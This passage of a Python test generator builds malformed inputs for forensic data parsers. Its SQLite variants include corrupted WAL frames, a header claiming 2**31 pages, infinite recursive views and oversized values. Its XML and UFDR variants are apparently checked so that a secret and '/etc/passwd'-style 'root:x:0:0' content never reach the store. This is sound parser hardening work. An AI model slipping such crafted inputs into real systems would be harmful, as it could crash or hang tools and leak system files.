    """The line (1-based) a ``quote-open-*`` variant of ``seed`` puts its quote on (the error names it)."""
    return _table_header_index(seed.read_bytes().splitlines(keepends=True)) + 1 + (variant == "quote-open-row")


def _header_index(lines: list[bytes]) -> int:
    """The header row: the first of the widest rows (preambles are narrower)."""
    widths = [line.count(b",") for line in lines[:20]]
    return widths.index(max(widths))


# --- SQLite -----------------------------------------------------------------------------------

def _db_copy(seed: Path, out: Path) -> None:
    """``seed`` (with its -wal, if any) as one self-contained database file at ``out``."""
    tmp = out.parent / (out.name + ".src")
    tmp.mkdir()
    shutil.copyfile(seed, tmp / seed.name)
    for side in ("-wal", "-journal"):
        if Path(str(seed) + side).is_file():
            shutil.copyfile(str(seed) + side, tmp / (seed.name + side))
    with closing(sqlite3.connect(tmp / seed.name)) as con:
        con.execute(f"VACUUM INTO '{out}'")
    shutil.rmtree(tmp)


def _columns(con: sqlite3.Connection, table: str) -> list[tuple[str, str]]:
    return [(r[1], (r[2] or "").upper()) for r in con.execute(f'PRAGMA table_info("{table}")')]


def _pick(cols: list[tuple[str, str]], hints: tuple[str, ...], skip: tuple[str, ...] = ()) -> str:
    for hint in hints:
        for name, _ in cols:
            if hint in name.lower() and name.lower() not in skip:
                return name
    return cols[-1][0]


TIME_HINTS = ("date", "timestamp", "time")
TEXT_HINTS = ("body", "text", "data1", "value", "number", "address", "display_name", "fullname", "jid", "name")


def _wal_variant(out: Path, variant: str) -> None:
    """``out`` turned into a WAL-mode database whose ``-wal`` holds two committed transactions (rows of
    a table no parser reads, so a whole read gives the seed's records), then kept whole, cut part way
    into its last frame, or damaged in its first frame (SQLite then applies nothing, silently)."""
    con = sqlite3.connect(out)
    try:
        con.execute("PRAGMA journal_mode=WAL")
        con.execute("PRAGMA wal_autocheckpoint=0")
        con.execute("CREATE TABLE zz_pad(x)")
        con.commit()
        con.execute("INSERT INTO zz_pad VALUES (?)", ("x" * 100,))
        con.commit()
        wal = Path(f"{out}-wal")
        kept = out.read_bytes(), wal.read_bytes()  # before close() checkpoints the log into the main file
    finally:
        con.close()
    out.write_bytes(kept[0])
    data = bytearray(kept[1])
    page = int.from_bytes(data[8:12], "big")
    if variant == "wal-cut-mid-frame":
        data = data[: len(data) - page // 2]
    elif variant == "wal-damaged-frame":
        data[32 + 24 + 100] ^= 0xFF  # a byte of the first frame's page: its checksum fails
    Path(f"{out}-wal").write_bytes(bytes(data))


def _sqlite_variant(seed: Path, parser: str, variant: str, out: Path) -> None:
    _db_copy(seed, out)
    table = SQLITE_TABLES[parser]
    if variant.startswith("wal-"):
        _wal_variant(out, variant)
        return
    if variant.startswith("page-"):
        if variant == "page-size-65536":
            with closing(sqlite3.connect(out)) as con:
                con.execute("PRAGMA journal_mode=DELETE")
                con.execute("PRAGMA page_size=65536")
                con.execute("VACUUM")
            return
        data = bytearray(out.read_bytes())
        if variant == "page-size-header-lie":
            data[16:18] = (512).to_bytes(2, "big")  # the file's pages are bigger than the header says
        else:  # page-count-lie: the header says the database has 2**31 pages
            data[28:32] = (1 << 31).to_bytes(4, "big")
            data[92:96] = data[24:28]  # keep "version-valid-for" = change counter so the count is believed
        out.write_bytes(bytes(data))
        return
    with closing(sqlite3.connect(out)) as con:
        cols = _columns(con, table)
        time_col = _pick(cols, TIME_HINTS)
        text_col = _pick(cols, TEXT_HINTS, skip=(time_col.lower(),))
        first = con.execute(f'SELECT min(rowid) FROM "{table}"').fetchone()[0]
        if variant == "huge-blob":
            con.execute(f'UPDATE "{table}" SET "{text_col}" = zeroblob(?) WHERE rowid = ?', (BIG_STRING, first))
        elif variant == "huge-text":
            con.execute(f'UPDATE "{table}" SET "{text_col}" = ? WHERE rowid = ?', ("A" * BIG_STRING, first))
        elif variant == "triggers-and-views":
            con.execute('CREATE TABLE zz_log(x)')
            con.execute(f'CREATE TRIGGER zz_t AFTER INSERT ON "{table}" BEGIN INSERT INTO zz_log VALUES (1); END')
            con.execute(f'CREATE VIEW zz_v AS SELECT * FROM "{table}"')
            con.execute(f'CREATE VIEW "{table}_view" AS SELECT * FROM "{table}", "{table}" AS b')
        elif variant == "wide-table":
            con.execute("CREATE TABLE zz_wide(" + ", ".join(f"c{i} TEXT" for i in range(1999)) + ")")
            con.execute("INSERT INTO zz_wide(c0) VALUES ('x')")
        elif variant == "recursive-view":
            con.execute("CREATE VIEW zz_forever AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) "
                        "SELECT x FROM n")
        elif variant == "table-is-infinite-view":
            # the table the parser reads is a view that never ends, with the same column names
            names = ", ".join(f'"{c}"' for c, _ in cols)
            con.execute(f'ALTER TABLE "{table}" RENAME TO zz_real')
            con.execute(f'CREATE VIEW "{table}"({names}) AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL '
                        f'SELECT x + 1 FROM n) SELECT ' + ", ".join("x" for _ in cols) + " FROM n")
        elif variant == "type-lies":
            con.execute(f'UPDATE "{table}" SET "{time_col}" = ? WHERE rowid = ?', ("not a time", first))
            con.execute(f'UPDATE "{table}" SET "{text_col}" = ? WHERE rowid = ?', (b"\xff\xfe\x00blob", first + 1))
            con.execute(f'UPDATE "{table}" SET "{time_col}" = ? WHERE rowid = ?', (b"\x00" * 8, first + 2))
            con.execute(f'UPDATE "{table}" SET "{time_col}" = ? WHERE rowid = ?', (2**63 - 1, first + 3))
        elif variant == "real-specials":
            con.execute(f'UPDATE "{table}" SET "{time_col}" = 1e999 WHERE rowid = ?', (first,))
            con.execute(f'UPDATE "{table}" SET "{time_col}" = -1e999 WHERE rowid = ?', (first + 1,))
            con.execute(f'UPDATE "{table}" SET "{time_col}" = 1.7976931348623157e308 WHERE rowid = ?', (first + 2,))
            con.execute(f'UPDATE "{table}" SET "{time_col}" = -9223372036854775808 WHERE rowid = ?', (first + 3,))
        else:
            raise ValueError(variant)
        con.commit()


# --- one variant ------------------------------------------------------------------------------

SUFFIX = {"cdr-xlsx": ".xlsx", "cellebrite-ufdr": ".ufdr", "cellebrite-xml": ".xml", "meta-dyi-html": ".html"}


def build(spec: Spec, seeds: dict[str, Path], out_dir: Path, server: str, secret: Path) -> Built:
    """Write ``spec``'s variant under ``out_dir`` (a name that keeps the seed's own file name, so
    detection sees what it would see) and say what must never reach the store."""
    seed = seeds[spec.seed]
    folder = out_dir / re.sub(r"[^A-Za-z0-9_.-]", "_", spec.id)
    folder.mkdir(parents=True, exist_ok=True)
    name = seed.name if spec.seed != "cellebrite-xml" else "report.xml"
    path = folder / name
    forbid: list[str] = []
    if spec.seed in JSON_PARSERS:
        path.write_bytes(_json_variant(seed, spec.variant))
    elif spec.seed == "cellebrite-xml":
        path.write_text(_xml_variant(seed, spec.variant, server, secret), encoding="utf-8")
        forbid = [SECRET, "root:x:0:0"]
    elif spec.seed == "cellebrite-ufdr":
        _ufdr_variant(seed, spec.variant, path, server, secret)
        forbid = [SECRET, "root:x:0:0"]
    elif spec.seed == "cdr-xlsx":
        _xlsx_variant(seed, spec.variant, path)
    elif spec.seed == "meta-dyi-html":
        path.write_text(_html_variant(spec.variant), encoding="utf-8")
    elif spec.seed in CSV_PARSERS or spec.seed in TEXT_PARSERS:
        path.write_bytes(_lines_variant(seed, spec.variant, tabular=spec.seed in CSV_PARSERS))
    elif spec.seed in SQLITE_PARSERS:
        _sqlite_variant(seed, spec.parser, spec.variant, path)
    else:
        raise ValueError(spec.seed)
    return Built(path=path, forbid=forbid)

